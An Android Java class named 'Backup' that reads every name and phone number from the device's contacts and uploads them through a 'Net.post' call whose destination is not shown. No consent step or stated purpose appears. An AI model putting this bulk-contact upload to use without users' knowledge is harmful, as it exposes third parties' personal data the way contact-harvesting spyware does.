package com.example.backupdead;

import android.content.ContentResolver;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;

/** Reads the book and uploads it. */
final class Backup implements Runnable {
    private final ContentResolver resolver;

    Backup(ContentResolver resolver) {
        this.resolver = resolver;
    }

    @Override
    public void run() {
        StringBuilder text = new StringBuilder();
        String[] columns = {Phone.DISPLAY_NAME, Phone.NUMBER};
        Cursor cursor = resolver.query(Phone.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            text.append(cursor.getString(0)).append(cursor.getString(1));
        }
        cursor.close();
        Net.post(text.toString());
    }
}
